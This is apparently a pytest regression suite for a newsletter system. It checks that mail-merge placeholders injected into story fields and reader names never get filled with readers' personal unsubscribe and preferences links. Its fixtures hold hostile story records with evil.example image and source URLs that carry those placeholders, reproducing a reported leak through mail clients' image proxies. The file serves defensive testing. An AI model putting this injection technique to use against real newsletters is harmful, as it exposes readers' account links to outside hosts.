"""Issue 24, 2: a story that carries the mail's placeholders in every field never gets a
reader's personal links into it. Sent over a real SMTP server (aiosmtpd) to real readers, on
SQLite and PostgreSQL: the whole edition, a reader's edition of their categories and a test
send. (The confirmation and sign-in mails have no placeholders: Jinja renders each for its one
reader.)"""

from __future__ import annotations

import json
import re
from datetime import timedelta
from email.message import EmailMessage
from html import escape
from pathlib import Path

import pytest
from sqlalchemy import Engine

from publisher.articles import publish
from publisher.community import subscriptions
from publisher.editions import sends
from publisher.schedules import load_timetable
from publisher.settings import Settings
from publisher.templating import make_environment
from tests.mailing import mail_site, now, run_until_done, start_edition
from tests.smtp import Received, SmtpServer

SITE = "https://news.example.com"
# The placeholders as they have always been named, the one click tracking adds, and what
# someone could guess from them: other cases, HTML entities, percent-encoding.
FIXED = [
    "NFPH_GREETING_NFPH",
    "NFPH_UNSUBSCRIBE_URL_NFPH",
    "NFPH_PREFERENCES_URL_NFPH",
    "NFPH_READER_NFPH",
]
GUESSES = [
    *FIXED,
    "nfph_unsubscribe_url_nfph",
    "&#78;FPH_UNSUBSCRIBE_URL_NFPH",
    "&#x4e;FPH_PREFERENCES_URL_&#78;FPH",
    "NFPH%5FUNSUBSCRIBE%5FURL%5FNFPH",
    "{{ unsubscribe_placeholder }}",
    "NFPH_UNSUBSCRIBE_NFPH",
    "NFPH_PREFERENCES_NFPH",
    "NFPH_GREETING_URL_NFPH",
]
CARRIED = " ".join(GUESSES)  # spaces: the lines stay short enough once filled
NAME = f"Reader {' '.join(FIXED)}"  # 200 characters at most
LINKS = re.compile(r"""(?:href|src)="([^"]*)"|(https?://[^\s<>"']+)""")


@pytest.fixture
def mail_settings(tmp_path: Path, database_url: str, smtp: SmtpServer) -> Settings:
    return mail_site(
        tmp_path,
        database_url,
        smtp,
        PUBLISHER_TRACK_CLICKS="aggregate",  # the reader slot is filled too
    )


def _hostile_stories(engine: Engine, settings: Settings, tmp_path: Path) -> None:
    """Two stories whose every field carries every placeholder and guess, in two categories."""
    nominal = load_timetable(settings.schedules).digest("daily").last_time(now())
    assert nominal is not None
    records = [
        {
            "title": f"Title {n} {CARRIED}",
            "slug": f"story-{n}",
            "summary": f"Summary {CARRIED}",
            "body": f"Body {CARRIED} [link](https://evil.example/{'/'.join(FIXED)})",
            "author": f"Author {' '.join(FIXED)}",  # 200 characters at most
            "editor": f"Editor {' '.join(FIXED)}",
            "image": f"https://evil.example/img/{'/'.join(FIXED)}.png",
            "source": {
                "name": f"Source {' '.join(FIXED)}",
                "url": f"https://evil.example/s/{FIXED[1]}",
            },
            "categories": [f"Topic{n} NFPH_UNSUBSCRIBE_URL_NFPH"],
            "published_at": (nominal - timedelta(hours=n + 1)).isoformat(),
        }
        for n in range(2)
    ]
    path = tmp_path / "hostile.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in records))
    publish.import_articles(engine, settings, [path], now=now(), actor="test")


def _add(engine: Engine, address: str, categories: list[str] | None = None) -> None:
    subscriptions.add_subscriber(
        engine,
        address,
        name=NAME,  # a reader's own name carries them too
        confirmed=True,
        digests=["daily"],
        known_digests=["daily"],
        categories=categories,
        now=now(),
    )


def _parts(message: EmailMessage) -> tuple[str, str]:
    text = message.get_body(("plain",))
    html = message.get_body(("html",))
    assert text is not None and html is not None
    return str(text.get_content()), str(html.get_content())


def _personal(message: EmailMessage) -> tuple[str, str]:
    """The reader's unsubscribe and preferences URLs, as the template's footer has them."""
    unsubscribe = str(message["List-Unsubscribe"]).strip("<>")
    text, _ = _parts(message)
    found = re.search(r"^Choose your newsletters: (\S+)\s*$", text, re.M)
    assert found is not None
    assert unsubscribe.startswith(f"{SITE}/unsubscribe/")
    assert found[1].startswith(f"{SITE}/preferences/")
    return unsubscribe, found[1]


def _check_copy(received: Received, others: list[str], greeting: str) -> None:
    """Each personal link only in the template's slots (the header, and once in each part's
    footer), no other reader's anywhere, no placeholder left, and none in an outside URL."""
    message = received.parsed()
    unsubscribe, preferences = _personal(message)
    text, html = _parts(message)
    for url in (unsubscribe, preferences):
        assert text.count(url) == 1 and html.count(url) == 1, f"{url} outside its slot"
    whole = received.data.decode("utf-8")
    for other in others:
        assert other.rsplit("/", 1)[1] not in whole, "another reader's link"
    # The reader's own name is theirs to see, as typed, in their greeting: nothing fills it.
    assert greeting in text and escape(greeting) in html
    for part in (text.replace(greeting, ""), html.replace(escape(greeting), "")):
        for placeholder in FIXED:
            assert placeholder not in part
        for found in LINKS.finditer(part):
            url = found[1] or found[2] or ""
            if not url.startswith(SITE):
                assert "/unsubscribe/" not in url and "/preferences/" not in url, url
                assert "m=" not in url and SITE not in url, url  # no reader tag, no our links


def _by_address(received: list[Received]) -> dict[str, Received]:
    return {r.recipient: r for r in received}


def test_placeholders_in_every_field_of_a_story_reach_no_reader(
    engine: Engine, mail_settings: Settings, tmp_path: Path, smtp: SmtpServer
) -> None:
    _hostile_stories(engine, mail_settings, tmp_path)
    _add(engine, "ana@example.com")  # the whole edition
    _add(engine, "ben@example.com")
    _add(engine, "cai@example.com", ["topic0-nfph-unsubscribe-url-nfph"])  # a variant
    edition_id = start_edition(engine, mail_settings)
    run_until_done(engine, mail_settings, edition_id)
    copies = _by_address(smtp.recorder.wait_for(3))
    assert set(copies) == {"ana@example.com", "ben@example.com", "cai@example.com"}
    links = {a: _personal(r.parsed()) for a, r in copies.items()}
    for address, received in copies.items():
        others = [u for a, pair in links.items() if a != address for u in pair]
        _check_copy(received, others, f"Hi {NAME},")
    text, html = _parts(copies["ana@example.com"].parsed())
    assert "Title 1" in text and "Title 1" in html  # the stories are there, defused
    text, html = _parts(copies["cai@example.com"].parsed())
    assert "Title 0" in text and "Title 1" not in text and "Title 1" not in html
    assert "NFPh_UNSUBSCRIBE_URL_NFPh" in html
    # An image address from outside never reaches the mail: readers get our copy once the
    # daemon has kept it (issue 26), none before.
    assert "evil.example/img" not in html


def test_the_issues_image_and_source_link_get_no_readers_links(
    engine: Engine, mail_settings: Settings, tmp_path: Path, smtp: SmtpServer
) -> None:
    """The attack as reported: the placeholders in a story's image URL and source link sent
    every reader's links to the outside host, fetched by mail clients' image proxies."""
    nominal = load_timetable(mail_settings.schedules).digest("daily").last_time(now())
    assert nominal is not None
    record = {
        "title": "An ordinary story",
        "image": "https://evil.example/p.png?u=NFPH_UNSUBSCRIBE_URL_NFPH",
        "source": {"name": "Wire", "url": "https://evil.example/s?p=NFPH_PREFERENCES_URL_NFPH"},
        "published_at": (nominal - timedelta(hours=1)).isoformat(),
    }
    path = tmp_path / "story.json"
    path.write_text(json.dumps(record))
    publish.import_articles(engine, mail_settings, [path], now=now(), actor="test")
    _add(engine, "ana@example.com")
    _add(engine, "ben@example.com")
    run_until_done(engine, mail_settings, start_edition(engine, mail_settings))
    copies = _by_address(smtp.recorder.wait_for(2))
    assert set(copies) == {"ana@example.com", "ben@example.com"}
    links = {a: _personal(r.parsed()) for a, r in copies.items()}
    for address, received in copies.items():
        others = [u for a, pair in links.items() if a != address for u in pair]
        _check_copy(received, others, f"Hi {NAME},")
        _, html = _parts(received.parsed())
        assert "evil.example/p.png" not in html  # not fetched yet: no picture, never theirs


def test_a_test_send_of_a_hostile_edition_carries_only_its_own_links(
    engine: Engine, mail_settings: Settings, tmp_path: Path, smtp: SmtpServer
) -> None:
    _hostile_stories(engine, mail_settings, tmp_path)
    timetable = load_timetable(mail_settings.schedules)
    env = make_environment()
    to = ["one@example.com", "two@example.com"]
    sends.test_send(engine, mail_settings, timetable, env, "daily", to, actor="Editor", now=now())
    copies = _by_address(smtp.recorder.wait_for(2))
    assert set(copies) == set(to)
    for received in copies.values():
        _check_copy(received, [], "Hello,")
